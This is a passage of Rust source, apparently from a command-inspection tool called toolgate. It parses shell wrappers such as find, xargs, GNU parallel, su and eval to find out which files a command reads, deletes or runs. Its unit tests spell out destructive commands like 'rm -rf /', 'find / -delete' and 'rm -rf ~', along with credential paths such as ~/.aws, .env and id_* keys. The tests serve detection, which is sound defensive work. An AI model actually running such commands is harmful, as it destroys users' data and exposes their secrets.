pub(crate) fn find_names(args: &[String], output: FindOutput) -> Vec<String> {
    let (roots, expression) = find_split(args);
    let Some(tests) = find_name_tests(expression, output) else {
        return Vec::new();
    };
    let mut names = Vec::new();
    for root in &roots {
        for test in &tests {
            if test.whole_path {
                names.extend(places::find_path_globs(root, &test.pattern, test.fold_case));
                continue;
            }
            let root = root.trim_end_matches('/');
            for glob in places::find_name_globs(&test.pattern, test.fold_case) {
                names.push(format!("{root}/**/{glob}"));
            }
        }
        if names.len() > MAX_FIND_NAMES {
            return Vec::new();
        }
    }
    names
}

/// What `find ARGS` hands to `output`, as patterns: the names it narrows them to
/// ([`find_names`]), or everything below each start directory when it does not (`find ~/.aws
/// -type f` prints `~/.aws/**`).
pub(crate) fn find_selected(args: &[String], output: FindOutput) -> Vec<String> {
    let names = find_names(args, output);
    if !names.is_empty() {
        return names;
    }
    let mut below: Vec<String> = find_roots(args)
        .iter()
        .map(|root| format!("{}/**", root.trim_end_matches('/')))
        .collect();
    below.truncate(MAX_FIND_NAMES);
    below
}

/// What `find ARGS` deletes, as patterns: what `-delete` acts on and what an `-exec rm …` (or
/// shred, unlink, srm, rmdir) is handed (see [`find_names`]), or each start directory whole when
/// its expression does not narrow them (`find .claude -delete` removes `.claude`). Empty when it
/// deletes nothing.
pub(crate) fn find_removed(args: &[String]) -> Vec<String> {
    let deletes = args.iter().any(|arg| arg == "-delete")
        || args.windows(2).any(|pair| match pair {
            [flag, program] => {
                matches!(flag.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") && removes(program)
            }
            _ => false,
        });
    if !deletes {
        return Vec::new();
    }
    let names = find_names(args, FindOutput::Deleted);
    if !names.is_empty() {
        return names;
    }
    find_roots(args).into_iter().map(str::to_owned).collect()
}

/// Most words of a `find` expression read for its name tests, and most nested `(` and `!`.
const MAX_FIND_WORDS: usize = 256;
const MAX_FIND_NESTING: usize = 32;

/// `find` tests and actions that take one argument (`-newerXY` aside), which is not read as an
/// operator or test of its own.
const FIND_ONE_ARGUMENT: &[&str] = &[
    "-amin",
    "-anewer",
    "-atime",
    "-cmin",
    "-cnewer",
    "-context",
    "-ctime",
    "-files0-from",
    "-fstype",
    "-gid",
    "-group",
    "-ilname",
    "-inum",
    "-ipath",
    "-iregex",
    "-iwholename",
    "-links",
    "-lname",
    "-maxdepth",
    "-mindepth",
    "-mmin",
    "-mtime",
    "-path",
    "-perm",
    "-regex",
    "-regextype",
    "-samefile",
    "-size",
    "-type",
    "-uid",
    "-used",
    "-user",
    "-wholename",
    "-xtype",
];

/// A test of a `find` expression that narrows what it selects by a pattern.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct FindTest<'a> {
    /// The pattern, as find's fnmatch reads it (a `-regex` read as such patterns, see
    /// [`places::find_regex_paths`]; a path and a name test as one, see [`narrower`]).
    pub pattern: Cow<'a, str>,
    /// Whether case is ignored (`-iname`, `-ipath`, `-iwholename`).
    pub fold_case: bool,
    /// Whether the pattern matches the whole path as find prints it (`-path`, `-wholename`),
    /// not only the name.
    pub whole_path: bool,
}

/// Tests (`-name` and `-iname` patterns, `-path` and `-wholename` ones, `-ipath`,
/// `-iwholename`, and `-regex` and `-iregex` read as whole-path patterns) one of which every name that reaches a `find` expression's wanted primaries
/// passes; `None` when a name that passes none may reach them (`-name a -o -type f`, `! -name
/// a`, no test). What is printed is what the whole expression is true for, unless it holds an
/// action (`-print`, `-exec`, `-delete`, …; `-prune` is none), then what reaches `-print`,
/// `-print0`, `-printf` and `-ls`: `find ~ -path ~/.cache -prune -o -name '*.md' -print`
/// prints names matching `*.md`. A pattern with no literal (`*`) narrows nothing.
pub(crate) fn find_name_tests(
    expression: &[String],
    output: FindOutput,
) -> Option<Vec<FindTest<'_>>> {
    if expression.len() > MAX_FIND_WORDS {
        return None;
    }
    let mut parser = FindParser {
        words: expression,
        at: 0,
        output,
    };
    let whole = parser.alternatives(0);
    match output {
        FindOutput::Printed if !whole.acts => whole.names,
        _ => whole.wanted,
    }
}

/// Names: `None` for any name, else patterns one of which each name passes.
type FindNames<'a> = Option<Vec<FindTest<'a>>>;

/// What a part of a `find` expression selects.
struct FindPart<'a> {
    /// The names it can be true for.
    names: FindNames<'a>,
    /// The names that can reach a wanted primary inside it (`Some(empty)`: it holds none).
    wanted: FindNames<'a>,
    /// Whether it holds an action other than `-prune`.
    acts: bool,
}

impl<'a> FindPart<'a> {
    fn test(names: FindNames<'a>) -> Self {
        FindPart {
            names,
            wanted: Some(Vec::new()),
            acts: false,
        }
    }

    /// `self -a other`: other is reached for what self is true for.
    fn and(self, other: Self) -> Self {
        FindPart {
            names: narrower(self.names.clone(), other.names),
            wanted: union(self.wanted, narrower(other.wanted, self.names)),
            acts: self.acts || other.acts,
        }
    }

    /// `self -o other`, or `self , other` (true for what other is).
    fn or(self, other: Self, comma: bool) -> Self {
        FindPart {
            names: match comma {
                true => other.names,
                false => union(self.names, other.names),
            },
            wanted: union(self.wanted, other.wanted),
            acts: self.acts || other.acts,
        }
    }
}

/// Names passing both. Whole-path tests that end in a segment of stars beside name tests
/// are both at once: the names below their directory (`-path './.claude/*' -name
/// settings.json`: `./.claude/settings.json` and `./.claude/*/settings.json`). Otherwise the
/// fewer patterns of the two (each holds for all of them), name patterns before as many
/// whole-path ones (`-path './src/x*' -name .env`: `.env`).
fn narrower<'a>(a: FindNames<'a>, b: FindNames<'a>) -> FindNames<'a> {
    if let (Some(a), Some(b)) = (&a, &b)
        && let Some(both) = paths_named(a, b).or_else(|| paths_named(b, a))
    {
        return Some(both);
    }
    let paths = |tests: &[FindTest<'_>]| tests.iter().filter(|test| test.whole_path).count();
    match (a, b) {
        (Some(a), Some(b)) if (b.len(), paths(&b)) < (a.len(), paths(&a)) => Some(b),
        (Some(a), _) => Some(a),
        (None, b) => b,
    }
}

/// The whole-path tests `paths` (each ending in a segment of stars) narrowed to the names
/// `names` (name tests only) below their directories; `None` when they are not such tests or
/// give more than [`MAX_FIND_NAMES`].
fn paths_named<'a>(paths: &[FindTest<'a>], names: &[FindTest<'a>]) -> FindNames<'a> {
    if paths.is_empty() || names.is_empty() || names.iter().any(|test| test.whole_path) {
        return None;
    }
    let mut both = Vec::new();
    for path in paths {
        let (dir, last) = path.pattern.rsplit_once('/').filter(|_| path.whole_path)?;
        if last.is_empty() || !last.bytes().all(|b| b == b'*') {
            return None;
        }
        for name in names {
            for pattern in [
                format!("{dir}/{}", name.pattern),
                format!("{dir}/*/{}", name.pattern),
            ] {
                both.push(FindTest {
                    pattern: Cow::Owned(pattern),
                    fold_case: path.fold_case || name.fold_case,
                    whole_path: true,
                });
            }
        }
    }
    (both.len() <= MAX_FIND_NAMES).then_some(both)
}

/// Names passing either.
fn union<'a>(a: FindNames<'a>, b: FindNames<'a>) -> FindNames<'a> {
    let (mut a, b) = (a?, b?);
    a.extend(b);
    (a.len() <= MAX_FIND_NAMES).then_some(a)
}

/// A `find` expression read by recursive descent: `-o` and `,` bind loosest, then `-a` (or
/// nothing), then `!` and parentheses.
struct FindParser<'w> {
    words: &'w [String],
    at: usize,
    output: FindOutput,
}

impl<'w> FindParser<'w> {
    fn peek(&self) -> Option<&'w str> {
        self.words.get(self.at).map(String::as_str)
    }

    fn next(&mut self) -> Option<&'w str> {
        let word = self.peek();
        self.at += 1;
        word
    }

    fn alternatives(&mut self, depth: usize) -> FindPart<'w> {
        let mut part = self.conjunction(depth);
        while let Some(operator @ ("-o" | "-or" | ",")) = self.peek() {
            self.at += 1;
            let other = self.conjunction(depth);
            part = part.or(other, operator == ",");
        }
        part
    }

    fn conjunction(&mut self, depth: usize) -> FindPart<'w> {
        let mut part = FindPart::test(None);
        loop {
            match self.peek() {
                None | Some("-o" | "-or" | "," | ")") => return part,
                Some("-a" | "-and") => self.at += 1,
                Some(_) => {
                    let term = self.term(depth);
                    part = part.and(term);
                }
            }
        }
    }

    fn term(&mut self, depth: usize) -> FindPart<'w> {
        let Some(word) = self.next() else {
            return FindPart::test(None);
        };
        if depth >= MAX_FIND_NESTING && matches!(word, "(" | "!" | "-not") {
            // Too deep to follow: whatever is inside may print anything.
            self.at = self.words.len();
            return FindPart {
                names: None,
                wanted: None,
                acts: true,
            };
        }
        match word {
            "(" => {
                let part = self.alternatives(depth + 1);
                if self.peek() == Some(")") {
                    self.at += 1;
                }
                part
            }
            "!" | "-not" => {
                let inner = self.term(depth + 1);
                FindPart {
                    names: None,
                    ..inner
                }
            }
            "-name" | "-iname" | "-path" | "-ipath" | "-wholename" | "-iwholename" => {
                let whole_path = word.ends_with("path") || word.ends_with("wholename");
                let names = self.next().map(|pattern| match pattern {
                    // A name pattern with a `/` matches no name.
                    _ if pattern.contains('/') && !whole_path => Some(Vec::new()),
                    _ if !places::find_pattern_narrows(pattern.trim_start_matches(['*', '/'])) => {
                        None
                    }
                    _ => Some(vec![FindTest {
                        pattern: Cow::Borrowed(pattern),
                        fold_case: word.starts_with("-i"),
                        whole_path,
                    }]),
                });
                FindPart::test(names.flatten())
            }
            "-regex" | "-iregex" => {
                let patterns = self.next().and_then(places::find_regex_paths);
                let narrows = |patterns: &Vec<String>| {
                    patterns.iter().all(|pattern| {
                        places::find_pattern_narrows(pattern.trim_start_matches(['*', '/']))
                    })
                };
                let names = patterns.filter(narrows).map(|patterns| {
                    patterns
                        .into_iter()
                        .map(|pattern| FindTest {
                            pattern: Cow::Owned(pattern),
                            fold_case: word == "-iregex",
                            whole_path: true,
                        })
                        .collect()
                });
                FindPart::test(names)
            }
            "-print" | "-print0" | "-printf" | "-ls" => {
                if word == "-printf" {
                    self.at += 1;
                }
                self.action(self.output == FindOutput::Printed)
            }
            "-exec" | "-execdir" | "-ok" | "-okdir" => {
                let program = self.peek().unwrap_or_default();
                let removal = self.output == FindOutput::Deleted && removes(program);
                let mut previous = "";
                while let Some(inner) = self.next() {
                    if inner == ";" || (inner == "+" && previous == "{}") {
                        break;
                    }
                    previous = inner;
                }
                self.action(self.output == FindOutput::Executed || removal)
            }
            "-delete" | "-quit" | "-fls" | "-fprint" | "-fprint0" | "-fprintf" => {
                self.at += match word {
                    "-fprintf" => 2,
                    "-fls" | "-fprint" | "-fprint0" => 1,
                    _ => 0,
                };
                self.action(word == "-delete" && self.output == FindOutput::Deleted)
            }
            _ => {
                if FIND_ONE_ARGUMENT.contains(&word) || word.starts_with("-newer") {
                    self.at += 1;
                }
                FindPart::test(None)
            }
        }
    }

    /// An action, wanted or not: true for any name.
    fn action(&self, wanted: bool) -> FindPart<'w> {
        FindPart {
            names: None,
            wanted: match wanted {
                true => None,
                false => Some(Vec::new()),
            },
            acts: true,
        }
    }
}

fn is_braces(field: &Field) -> bool {
    field.text == "{}"
}

const PARALLEL_SHORT_ARG: &[char] = &[
    'j', 'S', 'a', 'd', 'E', 'I', 'i', 'n', 'N', 'L', 'P', 'C', 'X',
];
const PARALLEL_LONG_ARG: &[&str] = &[
    "jobs",
    "sshlogin",
    "arg-file",
    "delimiter",
    "max-args",
    "max-replace-args",
    "max-lines",
    "max-procs",
    "colsep",
    "delay",
    "timeout",
    "joblog",
    "results",
    "tmpdir",
    "workdir",
    "memfree",
    "load",
    "retries",
];

/// What GNU parallel runs: its command with each input in place of `{}` (or at its end), the
/// inputs being the arguments after `:::` or, when there are none, the lines the command line
/// feeds its standard input (not with `--pipe`, where that is data, nor with `-a FILE`).
/// Without a command each input is itself a command (`parallel ::: 'make a' 'make b'`), one
/// from each `:::` group joined when there are several.
fn parallel(args: &[Field], stdin: Option<&str>) -> Vec<Nested> {
    let start = options_end(args, PARALLEL_SHORT_ARG, PARALLEL_LONG_ARG);
    let head: Vec<String> = args
        .get(..start)
        .unwrap_or(&[])
        .iter()
        .map(|f| f.text.clone())
        .collect();
    let options = Parsed::new(&head, PARALLEL_SHORT_ARG, PARALLEL_LONG_ARG);
    let rest = args.get(start..).unwrap_or(&[]);
    let split = rest
        .iter()
        .position(|f| f.text.starts_with(":::"))
        .unwrap_or(rest.len());
    let command = rest.get(..split).unwrap_or(&[]);
    let sources = rest.get(split..).unwrap_or(&[]);
    let mut groups = parallel_groups(sources);
    let reads_stdin = !options.has(&['a'], &["arg-file", "pipe", "pipepart", "spreadstdin"]);
    if sources.is_empty() && reads_stdin {
        let lines: Vec<Field> = stdin
            .into_iter()
            .flat_map(str::lines)
            .filter(|line| !line.trim().is_empty())
            .take(MAX_PARALLEL_RUNS + 1)
            .map(|line| Field {
                text: line.to_owned(),
                dynamic: false,
                valued: false,
            })
            .collect();
        if !lines.is_empty() {
            groups.push(lines);
        }
    }
    if command.is_empty() {
        // `:::: FILE`: commands in a file, which toolgate does not read.
        if sources.iter().any(|f| f.text.starts_with("::::")) {
            return Vec::new();
        }
        let runs = parallel_product(&groups)
            .into_iter()
            .map(|(text, dynamic)| script_or_dynamic(text, dynamic, Origin::Wrapper))
            .collect();
        return embedded::cap(runs, MAX_PARALLEL_RUNS);
    }
    let text = command
        .iter()
        .map(|f| f.text.as_str())
        .collect::<Vec<_>>()
        .join(" ");
    let dynamic = command.iter().any(|f| f.dynamic);
    // `::: a b`: each argument goes where `{}` is, or at the end. (Other replacement strings
    // and `::::` argument files leave the command as written.)
    let inputs: Vec<&Field> = groups.iter().flatten().collect();
    let placeholders = ["{.}", "{/}", "{//}", "{/.}", "{#}", "{%}", "{1}", "{2}"];
    if inputs.is_empty()
        || sources.iter().any(|f| f.text.starts_with("::::"))
        || placeholders.iter().any(|p| text.contains(p))
    {
        return vec![script_or_dynamic(text, dynamic, Origin::Wrapper)];
    }
    let runs = inputs
        .iter()
        .map(|input| {
            let run = if text.contains("{}") {
                text.replace("{}", &input.text)
            } else {
                format!("{text} {}", input.text)
            };
            script_or_dynamic(run, dynamic || input.dynamic, Origin::Wrapper)
        })
        .collect();
    embedded::cap(runs, MAX_PARALLEL_RUNS)
}

/// The input groups of parallel's sources: the arguments after each `:::` (or `:::+`).
fn parallel_groups(sources: &[Field]) -> Vec<Vec<Field>> {
    let mut groups: Vec<Vec<Field>> = Vec::new();
    for source in sources {
        if source.text.starts_with(":::") {
            groups.push(Vec::new());
        } else if let Some(group) = groups.last_mut() {
            group.push(source.clone());
        }
    }
    groups.retain(|group| !group.is_empty());
    groups
}

/// Every way of taking one input from each group, joined by spaces (parallel's default for
/// several groups), with whether it holds a run-time expansion; one more than
/// [`MAX_PARALLEL_RUNS`] at most, so that the cap shows there were more.
fn parallel_product(groups: &[Vec<Field>]) -> Vec<(String, bool)> {
    let mut runs: Vec<(String, bool)> = Vec::new();
    for group in groups {
        runs = if runs.is_empty() {
            group.iter().map(|f| (f.text.clone(), f.dynamic)).collect()
        } else {
            runs.iter()
                .flat_map(|(text, dynamic)| {
                    group
                        .iter()
                        .map(move |f| (format!("{text} {}", f.text), *dynamic || f.dynamic))
                })
                .collect()
        };
        runs.truncate(MAX_PARALLEL_RUNS + 1);
    }
    runs
}

/// moreutils' `pee CMD…`: each argument is shell text fed a copy of the standard input.
fn pee(args: &[Field]) -> Vec<Nested> {
    let commands = args.iter().filter(|arg| !arg.text.starts_with("--"));
    let runs = commands
        .map(|arg| script_or_dynamic(arg.text.clone(), arg.dynamic, Origin::Wrapper))
        .collect();
    embedded::cap(runs, MAX_PARALLEL_RUNS)
}

/// moreutils' `mispipe CMD1 CMD2`: two shell texts, the first piped into the second.
fn mispipe(args: &[Field]) -> Vec<Nested> {
    args.iter()
        .take(2)
        .map(|arg| script_or_dynamic(arg.text.clone(), arg.dynamic, Origin::Wrapper))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::wrappers::tests::fields;

    /// [`super::nested`] with a whole budget.
    fn nested(argv: &[Field], stdin: Option<&str>) -> Vec<Nested> {
        super::nested(argv, stdin, &Budget::default())
    }

    fn script(text: &str, origin: Origin) -> Nested {
        Nested::Script {
            text: text.to_owned(),
            origin,
        }
    }

    #[test]
    fn a_script_gets_its_positional_parameters() {
        let bound = |script: &str, words: &[&str]| with_positional(script, &fields(words));
        assert_eq!(
            bound("rm -rf \"$1\" $0", &["_", "~/x", "$D"]),
            "__toolgate_arg0=_\nset -- ~/x \"$D\"\nrm -rf \"$1\" $__toolgate_arg0"
        );
        assert_eq!(bound("ls", &["_", "x"]), "ls");
        assert_eq!(bound("rm -rf \"$1\"", &[]), "rm -rf \"$1\"");
        assert_eq!(bound("rm -f \"$1\"", &["_", "{}"]), "rm -f \"$1\"");
    }

    #[test]
    fn shell_payloads() {
        for words in [
            &["bash", "-c", "rm -rf /"][..],
            &["sh", "-lc", "rm -rf /"],
            &["sh", "-ec", "rm -rf /"],
            &["bash", "-x", "-o", "pipefail", "-c", "rm -rf /", "arg0"],
            &["zsh", "--norc", "-c", "rm -rf /"],
            &["bash", "--rcfile", "x", "-c", "rm -rf /"],
        ] {
            assert_eq!(
                nested(&fields(words), None),
                [script("rm -rf /", Origin::ShellString)],
                "{words:?}"
            );
        }
        assert_eq!(
            nested(&fields(&["sh", "-c", "$X"]), None),
            [Nested::Dynamic("$X".to_owned())]
        );
    }

    #[test]
    fn script_files() {
        let file = |words: &[&str]| script_file(&fields(words)).map(|f| f.text.clone());
        assert_eq!(file(&["bash", "-x", "x.sh", "a"]), Some("x.sh".to_owned()));
        assert_eq!(
            file(&["sh", "-o", "errexit", "--", "a.sh"]),
            Some("a.sh".to_owned())
        );
        assert_eq!(file(&["source", "env.sh"]), Some("env.sh".to_owned()));
        assert_eq!(file(&[".", "./env.sh"]), Some("./env.sh".to_owned()));
        assert_eq!(file(&["./x", "a"]), Some("./x".to_owned()));
        assert_eq!(file(&["bash", "-c", "x.sh"]), None);
        assert_eq!(file(&["bash", "-s", "x.sh"]), None);
        assert_eq!(file(&["bash"]), None);
        assert_eq!(file(&["make", "x.sh"]), None);
    }

    #[test]
    fn shells_reading_stdin() {
        for words in [
            &["sh"][..],
            &["bash", "-s", "--", "a"],
            &["bash", "-e"],
            &["bash", "/dev/stdin"],
            &["source", "/dev/stdin"],
            &[".", "/proc/self/fd/0"],
        ] {
            assert_eq!(nested(&fields(words), None), [Nested::Stdin], "{words:?}");
        }
        assert!(nested(&fields(&["bash", "script.sh"]), None).is_empty());
        assert_eq!(
            nested(&fields(&["sh", PROCESS_SUBSTITUTION_READ]), None),
            [Nested::Dynamic(PROCESS_SUBSTITUTION_READ.to_owned())]
        );
    }

    #[test]
    fn eval_su_script_alias() {
        assert_eq!(
            nested(&fields(&["eval", "rm", "-rf /"]), None),
            [script("rm -rf /", Origin::Eval)]
        );
        assert_eq!(
            nested(&fields(&["su", "-", "root", "-c", "rm -rf /"]), None),
            [Nested::InDir {
                dir: "~root".to_owned(),
                nested: Box::new(script("rm -rf /", Origin::ShellString))
            }]
        );
        // A login shell starts in the home of the user named, or root's.
        for (words, home) in [
            (&["su", "-l", "bob", "-c", "ls"][..], "~bob"),
            (&["su", "-c", "ls", "--login"][..], "~root"),
            (&["su", "-s", "/bin/sh", "-", "-c", "ls", "bob"][..], "~bob"),
            (&["runuser", "-l", "bob", "-c", "ls"][..], "~bob"),
        ] {
            let found = nested(&fields(words), None);
            assert!(
                matches!(&found[..], [Nested::InDir { dir, .. }] if dir == home),
                "{words:?}: {found:?}"
            );
        }
        assert_eq!(
            nested(&fields(&["su", "bob", "-c", "ls"]), None),
            [script("ls", Origin::ShellString)]
        );
        assert_eq!(
            nested(
                &fields(&["su", "-s", "/bin/sh", "--command=rm -rf /"]),
                None
            ),
            [script("rm -rf /", Origin::ShellString)]
        );
        assert_eq!(
            nested(&fields(&["script", "-qc", "rm -rf /", "/dev/null"]), None),
            [script("rm -rf /", Origin::ShellString)]
        );
        assert_eq!(
            nested(&fields(&["trap", "--", "rm -rf /", "EXIT"]), None),
            [script("rm -rf /", Origin::ShellString)]
        );
        assert!(nested(&fields(&["trap", "-p", "EXIT"]), None).is_empty());
        assert!(nested(&fields(&["trap", "EXIT"]), None).is_empty());
        assert_eq!(
            nested(&fields(&["alias", "x=rm -rf /"]), None),
            [script("rm -rf /", Origin::ShellString)]
        );
    }

    fn command(words: &[&str], origin: Origin) -> Nested {
        Nested::Command {
            fields: fields(words),
            origin,
        }
    }

    #[test]
    fn xargs_options() {
        for words in [
            &["xargs", "rm", "-rf"][..],
            &["xargs", "-0", "-n1", "-I{}", "rm", "-rf"],
            &["xargs", "-n", "1", "-I", "{}", "-P", "4", "rm", "-rf"],
            &["xargs", "--null", "--max-args=1", "--", "rm", "-rf"],
            &["xargs", "-a", "list", "-d", "\n", "-r", "-t", "rm", "-rf"],
            &["xargs", "--max-args", "1", "rm", "-rf"],
        ] {
            let Some(Nested::Command { fields, origin }) = nested(&fields(words), None).pop()
            else {
                panic!("{words:?}");
            };
            assert_eq!(origin, Origin::Xargs);
            let argv: Vec<&str> = fields.iter().map(|f| f.text.as_str()).collect();
            assert_eq!(argv[..2], ["rm", "-rf"], "{words:?}");
        }
        assert!(nested(&fields(&["xargs", "-0"]), None).is_empty());
    }

    #[test]
    fn xargs_arguments_from_standard_input_are_dynamic() {
        let argv = |words: &[&str]| match nested(&fields(words), None).pop() {
            Some(Nested::Command { fields, .. }) => fields
                .iter()
                .map(|f| (f.text.clone(), f.dynamic))
                .collect::<Vec<_>>(),
            other => panic!("{other:?}"),
        };
        let input = (XARGS_INPUT.to_owned(), true);
        let word = |w: &str| (w.to_owned(), false);
        assert_eq!(
            argv(&["xargs", "rm", "-rf"]),
            [word("rm"), word("-rf"), input.clone()]
        );
        for words in [
            &["xargs", "-I{}", "rm", "-rf", "{}"][..],
            &["xargs", "-I", "{}", "rm", "-rf", "{}"],
            &["xargs", "-n1", "-i", "rm", "-rf", "{}"],
            &["xargs", "--replace", "rm", "-rf", "{}"],
        ] {
            assert_eq!(
                argv(words),
                [word("rm"), word("-rf"), input.clone()],
                "{words:?}"
            );
        }
        assert_eq!(
            argv(&["xargs", "-I", "F", "cp", "F", "F.bak"]),
            [
                word("cp"),
                input.clone(),
                (format!("{XARGS_INPUT}.bak"), true)
            ]
        );
    }

    #[test]
    fn xargs_arguments_the_command_line_gives() {
        let argvs = |words: &[&str], stdin: &str| -> Vec<Vec<String>> {
            nested(&fields(words), Some(stdin))
                .into_iter()
                .map(|nested| match nested {
                    Nested::Command { fields, .. } => fields.into_iter().map(|f| f.text).collect(),
                    other => panic!("{other:?}"),
                })
                .collect()
        };
        assert_eq!(argvs(&["xargs", "rm", "-rf"], "~\n"), [["rm", "-rf", "~"]]);
        assert_eq!(argvs(&["xargs", "-0", "cat"], "a b"), [["cat", "a", "b"]]);
        // `-I`: one command per line.
        assert_eq!(
            argvs(&["xargs", "-I{}", "cp", "{}", "/tmp/"], "a\nb"),
            [["cp", "a", "/tmp/"], ["cp", "b", "/tmp/"]]
        );
        // `-a FILE` reads the arguments from the file, which the walker looks up.
        for words in [
            &["xargs", "-a", "list", "cat"][..],
            &["xargs", "-ra", "list", "cat"],
            &["xargs", "--arg-file=list", "cat"],
        ] {
            let args = fields(&words[1..]);
            assert_eq!(
                xargs_arg_file(&args),
                Some(("list".to_owned(), None)),
                "{words:?}"
            );
        }
        assert_eq!(xargs_arg_file(&fields(&["cat", "-a", "x"])), None);
        // The last `-a` is the one read: of two `<(…)`, the second.
        let psub = PROCESS_SUBSTITUTION_READ;
        let args = fields(&["-a", psub, "-a", psub, "diff", psub]);
        assert_eq!(xargs_arg_file(&args), Some((psub.to_owned(), Some(1))));
        let args = fields(&["-a", psub, "-a", "list", "cat"]);
        assert_eq!(xargs_arg_file(&args), Some(("list".to_owned(), None)));
        // `--arg-file=<(…)`, which the parser splits in two.
        let args = fields(&["--arg-file=", psub, "cat"]);
        assert_eq!(xargs_arg_file(&args), Some((psub.to_owned(), Some(0))));
        let args = fields(&["--arg=", psub, "-a", psub, "cat"]);
        assert_eq!(xargs_arg_file(&args), Some((psub.to_owned(), Some(1))));
    }

    fn find_args(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| (*w).to_owned()).collect()
    }

    #[test]
    fn find_lists_names_by_pattern() {
        let names = |words: &[&str]| find_names(&find_args(words), FindOutput::Printed);
        assert_eq!(names(&[".", "-name", ".env"]), ["./**/.env"]);
        assert_eq!(
            names(&[
                "-L", "a/", "/", "-type", "f", "(", "-iname", "*.p", "-o", "-name", "id_*", ")"
            ]),
            [
                "a/**/*.[pP]",
                "a/**/.*.[pP]",
                "a/**/.[pP]",
                "a/**/id_*",
                "/**/*.[pP]",
                "/**/.*.[pP]",
                "/**/.[pP]",
                "/**/id_*"
            ]
        );
        assert_eq!(names(&["-name", "x"]), ["./**/x"]);
        assert_eq!(
            names(&["-O3", "-D", "tree", "-L", "/k", "-name", "x"]),
            ["/k/**/x"]
        );
        // find's `*` matches a leading dot, the shell's does not.
        assert_eq!(
            names(&["~/.claude", "-name", "*.json"]),
            [
                "~/.claude/**/*.json",
                "~/.claude/**/.*.json",
                "~/.claude/**/.json"
            ]
        );
        // Nothing narrows the names: every file, which the caller judges as a recursive read.
        for words in [
            &[".", "-type", "f"][..],
            &[".", "!", "-name", "*.md"],
            &[".", "-not", "-name", "x"],
            &[".", "-name", "*"],
            &[".", "-name", "x", "-o", "-type", "f"],
            &[".", "(", "-name", "x", "-o", "-newer", "-name", ")"],
            &[".", "-name", "x", "-print", ",", "-print"],
        ] {
            assert!(names(words).is_empty(), "{words:?}");
        }
        // A conjunction narrows to either side's names; an alternative adds its own.
        assert_eq!(names(&["-name", "a", "-type", "f"]), ["./**/a"]);
        assert_eq!(names(&["-type", "f", "-a", "-name", "a"]), ["./**/a"]);
        assert_eq!(names(&["-name", "a", ",", "-name", "b"]), ["./**/b"]);
        assert_eq!(
            names(&["(", "-name", "a", "-o", "-name", "b", ")", "-size", "+1k"]),
            ["./**/a", "./**/b"]
        );
        // With an action, only what reaches `-print` is printed.
        assert_eq!(
            names(&[
                "~", "-path", "~/.cache", "-prune", "-o", "-name", "*.md", "-print"
            ]),
            ["~/**/*.md", "~/**/.*.md", "~/**/.md"]
        );
        assert_eq!(
            names(&[
                "-name", "a", "-exec", "x", "{}", ";", "-o", "-name", "b", "-print0"
            ]),
            ["./**/b"]
        );
        assert!(names(&["-name", "a", "-delete"]).is_empty());
        // A whole-path test narrows to the paths its pattern matches below the root, where
        // find's `*` crosses a `/`; a name test narrows as well, and is kept before it.
        assert_eq!(names(&[".", "-path", "./.claude"]), ["./.claude"]);
        assert_eq!(names(&[".", "-wholename", "*/.env"]), ["./**/.env"]);
        assert_eq!(
            names(&[".", "-path", "./.claude*"]),
            ["./.claude*", "./.claude*/**"]
        );
        assert_eq!(
            names(&[".", "-ipath", "./.cLaude"]),
            ["./.[cC][lL][aA][uU][dD][eE]", "./.claude"]
        );
        // Beside a path test ending in stars, a name test narrows below its directory.
        assert_eq!(
            names(&[".", "-path", "./src/*", "-name", ".env"]),
            ["./src/.env", "./src/**/.env"]
        );
        assert_eq!(
            names(&[".", "-name", "settings.json", "-path", "*/.claude/*"]),
            [
                "./**/.claude/settings.json",
                "./**/.claude/**/settings.json"
            ]
        );
        assert_eq!(
            names(&[".", "-path", "./src/x*", "-name", ".env"]),
            ["./**/.env"]
        );
        // A regex is read as the path patterns that match at least what it does.
        assert_eq!(
            names(&[".", "-regex", r".*/\.claude/.*"]),
            [
                "./**/.claude/*",
                "./**/.claude/.*",
                "./**/.claude/*/**",
                "./**/.claude/.*/**"
            ]
        );
        assert_eq!(
            names(&["~", "-iregex", r".*\.\(env\|pem\)", "-type", "f"]).len(),
            12
        );
        assert!(names(&[".", "-regex", ".*"]).is_empty());
        assert!(names(&[".", "-regex", r"\(a\)\1"]).is_empty());
        assert!(names(&[".", "-path", "*/*"]).is_empty());
        // What `-exec` is handed is what reaches it.
        let executed = |words: &[&str]| find_names(&find_args(words), FindOutput::Executed);
        assert_eq!(
            executed(&[
                "-name", "a", "-print", "-o", "-name", "b", "-exec", "cat", "{}", "+"
            ]),
            ["./**/b"]
        );
        assert_eq!(
            executed(&["-name", "a", "-exec", "cat", "{}", ";", "-print"]),
            ["./**/a"]
        );
        // Too many names, or too deep: not narrowed.
        let many: Vec<&str> = ["-name", "a", "-o"].repeat(20);
        assert!(names(&many[..many.len() - 1]).is_empty());
        let deep: Vec<&str> = ["!"]
            .repeat(100)
            .into_iter()
            .chain(["-name", "a"])
            .collect();
        assert!(names(&deep).is_empty());
        let nested: Vec<&str> = ["("]
            .repeat(100)
            .into_iter()
            .chain(["-name", "a"])
            .collect();
        assert!(names(&nested).is_empty());
    }

    #[test]
    fn find_selects_below_its_roots_unless_narrowed() {
        let selected = |words: &[&str]| find_selected(&find_args(words), FindOutput::Printed);
        assert_eq!(
            selected(&["~/.aws/", "/etc", "-type", "f"]),
            ["~/.aws/**", "/etc/**"]
        );
        assert_eq!(selected(&["-name", "x"]), ["./**/x"]);
    }

    #[test]
    fn find_exec() {
        assert_eq!(
            nested(
                &fields(&[
                    "find", ".", "-name", "*.tmp", "-exec", "rm", "-rf", "{}", "+", "-ok", "echo",
                    "{}", ";"
                ]),
                None
            ),
            [
                command(&["rm", "-rf", "{}"], Origin::FindExec),
                command(&["echo", "{}"], Origin::FindExec)
            ]
        );
        assert!(nested(&fields(&["find", "/", "-delete"]), None).is_empty());
    }

    #[test]
    fn fd_exec() {
        let run = |words: &[&str]| nested(&fields(words), None);
        assert_eq!(
            run(&["fd", "-e", "x", ".", "~", "/tmp", "-x", "rm", "-rf"]),
            [
                command(&["rm", "-rf", "~/**"], Origin::FindExec),
                command(&["rm", "-rf", "/tmp/**"], Origin::FindExec)
            ]
        );
        assert_eq!(
            run(&["fdfind", "-X", "cat", "{}", ";", "--search-path", "d"]),
            [command(&["cat", "d/**"], Origin::FindExec)]
        );
        assert_eq!(
            run(&["fd", "--search-path", "d", "-x", "cat", "{/}"]),
